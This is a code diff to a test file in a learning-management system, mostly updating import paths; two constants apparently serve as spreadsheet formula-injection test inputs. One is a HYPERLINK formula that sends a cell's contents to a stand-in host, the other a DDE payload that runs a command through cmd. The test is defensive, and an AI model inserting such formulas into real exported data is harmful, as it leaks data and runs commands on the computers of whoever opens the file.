@@ -20,14 +20,14 @@ from lms.lib.spreadsheet_cells import safe_cell
 from lms.models import Person
 from tests.admin_helpers import signed_in
 from tests.factories import UserFactory, with_mfa
-from tests.lms.test_hr_report_cohorts import (
+from tests.lms.reports.test_hr_report_cohorts import (
     complete,
     frozen_today,  # noqa: F401
     group,  # noqa: F401
     staff_member,
 )
-from tests.lms.test_open_data import read_csv
-from tests.lms.test_transparency import build_dataset
+from tests.lms.transparency.test_open_data import read_csv
+from tests.lms.transparency.test_transparency import build_dataset
 
 NAME = '=HYPERLINK("http://malo.example/?x="&A1,"Ver")'
 POST = "+cmd|' /C calc'!A0"
